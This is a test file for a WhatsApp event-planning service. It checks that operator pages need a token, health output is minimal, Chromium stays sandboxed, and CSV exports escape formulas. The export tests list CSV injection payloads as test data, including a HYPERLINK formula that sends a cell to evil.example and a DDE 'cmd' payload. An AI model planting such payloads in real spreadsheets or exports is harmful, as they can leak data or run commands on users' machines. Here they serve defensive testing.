// Safe defaults: in production the operator pages need OPERATOR_TOKEN from any address (a reverse proxy on the same
// host connects from loopback) and do not exist without it; /readyz tells a stranger only up or down; Chromium keeps
// its sandbox unless the operator opts out and the image runs as a non-root user; and exports make formula-looking
// cells inert (CSV formula injection), tested with hostile names in each of the four lists.
import { readFileSync } from "node:fs";
import type { AddressInfo } from "node:net";
import type { Express } from "express";
import { Queue } from "bullmq";
import { afterAll, describe, expect, it } from "vitest";
import { chromiumArgs } from "../../src/channels/whatsapp/client.js";
import { whatsappQrHandler } from "../../src/channels/whatsapp/index.js";
import { loadConfig } from "../../src/config.js";
import { Prisma } from "../../src/generated/prisma/client.js";
import { createHttpApp, type HttpOptions } from "../../src/http/app.js";
import { escapeFormula } from "../../src/journeys/exports/index.js";
import { createLogger } from "../../src/logger.js";
import { createMetrics } from "../../src/metrics.js";
import { startHarness } from "../support/engine-harness.js";
import { testDb, testRedis, uniquePhone, uniquePrefix } from "../support/services.js";

const logger = createLogger("silent");
const token = "operator_token-0123456789";
const basic = (password: string) => `Basic ${Buffer.from(`operator:${password}`).toString("base64")}`;
const closers: Array<() => Promise<unknown>> = [];
afterAll(async () => {
  for (const close of closers.splice(0).reverse()) await close();
});

async function serve(app: Express): Promise<string> {
  const server = await new Promise<import("node:http").Server>((resolve) => {
    const s = app.listen(0, "127.0.0.1", () => resolve(s));
  });
  closers.push(() => new Promise((resolve) => server.close(resolve)));
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}

/** The app with every operator page mounted, as main.ts builds it. */
async function startApp(options: Partial<HttpOptions>): Promise<string> {
  const redis = await testRedis();
  const queue = new Queue("safe-defaults", { connection: redis, prefix: uniquePrefix() });
  closers.push(() => queue.close());
  const qr = {
    status: () => ({ state: "qr" as const, qr: "2@fake" }),
    qrSvg: async () => '<svg data-test="qr"></svg>',
  };
  return serve(
    createHttpApp({
      db: testDb(),
      redis,
      logger,
      metrics: createMetrics(testDb()).registry,
      queues: [queue],
      whatsappQr: whatsappQrHandler(qr),
      channelStatus: () => ({ whatsapp: "blocked: WhatsApp banned this number (TOS_BLOCK)" }),
      ...options,
    }),
  );
}

const operatorPages = ["/metrics", "/admin/queues", "/admin/queues/api/queues", "/whatsapp/qr"];

describe("operator pages in production", () => {
  it("do not exist without OPERATOR_TOKEN, even for a request from this machine (what a reverse proxy sends)", async () => {
    const base = await startApp({ production: true });
    for (const path of operatorPages) {
      const response = await fetch(`${base}${path}`);
      expect(response.status, path).toBe(404);
      expect(await response.text(), path).not.toMatch(/nuru_|queues|data-test/);
    }
  });

  it("need the operator password from any address when OPERATOR_TOKEN is set", async () => {
    const base = await startApp({ production: true, operatorToken: token });
    for (const path of operatorPages) {
      expect((await fetch(`${base}${path}`)).status, path).toBe(401);
      expect((await fetch(`${base}${path}`, { headers: { Authorization: basic(`${token}x`) } })).status, path).toBe(
        401,
      );
      expect((await fetch(`${base}${path}`, { headers: { Authorization: basic(token) } })).status, path).toBe(200);
    }
  });
});

describe("/readyz", () => {
  it("tells a stranger only up or down, in production and wherever a password is set", async () => {
    for (const options of [
      { production: true },
      { production: true, operatorToken: token },
      { operatorToken: token },
    ]) {
      const base = await startApp(options);
      const response = await fetch(`${base}/readyz`);
      expect(response.status).toBe(200);
      expect(await response.json(), JSON.stringify(options)).toEqual({ status: "up" });
    }
  });

  it("gives the operator the details", async () => {
    const base = await startApp({ production: true, operatorToken: token });
    const response = await fetch(`${base}/readyz`, { headers: { Authorization: basic(token) } });
    expect(await response.json()).toEqual({
      ready: true,
      postgres: "ok",
      redis: "ok",
      channels: { whatsapp: "blocked: WhatsApp banned this number (TOS_BLOCK)" },
    });
  });
});

describe("Chromium for WhatsApp Web", () => {
  it("keeps its sandbox unless CHROMIUM_NO_SANDBOX=true asks otherwise", () => {
    expect(loadConfig({}).CHROMIUM_NO_SANDBOX).toBe(false);
    expect(chromiumArgs(loadConfig({}).CHROMIUM_NO_SANDBOX)).not.toContain("--no-sandbox");
    expect(chromiumArgs(loadConfig({ CHROMIUM_NO_SANDBOX: "true" }).CHROMIUM_NO_SANDBOX)).toContain("--no-sandbox");
  });

  it("runs in an image whose process is not root, and compose does not opt out of the sandbox", () => {
    const dockerfile = readFileSync("Dockerfile", "utf8");
    const users = [...dockerfile.matchAll(/^USER\s+(\S+)/gm)].map((m) => m[1]);
    expect(users.length).toBeGreaterThan(0);
    expect(users.at(-1)).not.toMatch(/^(root|0)(:|$)/);
    expect(dockerfile).not.toContain("--no-sandbox");
    expect(readFileSync("docker-compose.yml", "utf8")).not.toMatch(/CHROMIUM_NO_SANDBOX:\s*"?true/);
  });
});

describe("exports escape formulas", () => {
  const hostile = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bonyeza")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)",
    "\tTab=1+1",
    "＝1+1",
  ];

  it("makes each formula-looking text inert and leaves phones and numbers as they are", () => {
    for (const text of hostile) expect(escapeFormula(text), text).toBe(`'${text}`);
    expect(escapeFormula("+255712345678")).toBe("+255712345678");
    expect(escapeFormula('Amina "Mama Zawadi" - 2')).toBe('Amina "Mama Zawadi" - 2');
  });

  it("in the guests, contributions, budget and tasks exports", async () => {
    const h = await startHarness();
    const organizer = uniquePhone();
    await h.say(organizer, "/help", "Neema");
    await h.replies(organizer, 1);
    await h.settle();
    const db = h.db;
    const me = await db.user.findFirstOrThrow({ where: { phone: organizer } });
    const event = await db.event.create({
      data: {
        organizerId: me.id,
        name: "Harusi",
        startTime: new Date("2031-02-15T11:00:00Z"),
        status: "confirmed",
        code: `HARUSI-${uniquePrefix().slice(-6).toUpperCase()}`,
      },
    });
    for (const [i, name] of hostile.entries()) {
      const guest = await db.user.create({ data: { name, phone: uniquePhone() } });
      await db.invitation.create({
        data: {
          eventId: event.id,
          userId: guest.id,
          recipientPhone: guest.phone,
          recipientName: name,
          sentAt: new Date(),
        },
      });
      await db.guestContribution.create({
        data: {
          eventId: event.id,
          userId: guest.id,
          kind: i % 2 ? "message" : "pledge",
          content: name,
          amount: i % 2 ? null : new Prisma.Decimal(1000),
          currency: "TZS",
        },
      });
      await db.eventBudgetItem.create({
        data: { eventId: event.id, title: name, cost: new Prisma.Decimal(1000), paid: new Prisma.Decimal(0) },
      });
      await db.eventTask.create({
        data: { eventId: event.id, title: name, code: `T-${i}${uniquePrefix().slice(-4).toUpperCase()}` },
      });
    }

    for (const list of ["guests", "contributions", "budget", "tasks"]) {
      const before = h.sent.to(organizer).length;
      await h.say(organizer, `/export ${event.code} ${list}`);
      const sent = await h.reply(organizer, before + 1);
      expect(sent.document, list).toBeDefined();
      const csv = Buffer.from(sent.document!.base64, "base64")
        .toString("utf8")
        .replace(/^\uFEFF/, "");
      const cells = parseCsv(csv).flat();
      for (const text of hostile) {
        expect(cells, `${list}: ${text}`).toContain(`'${text}`);
        expect(cells, `${list}: ${text}`).not.toContain(text);
      }
    }
  });
});

/** A CSV's cells, read by the rules the library writes them with (quotes doubled, CRLF between records). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") row.push(field), (field = "");
    else if (c === "\r" && text[i + 1] === "\n") row.push(field), rows.push(row), (row = []), (field = ""), i++;
    else field += c;
  }
  if (field || row.length) row.push(field), rows.push(row);
  return rows;
}
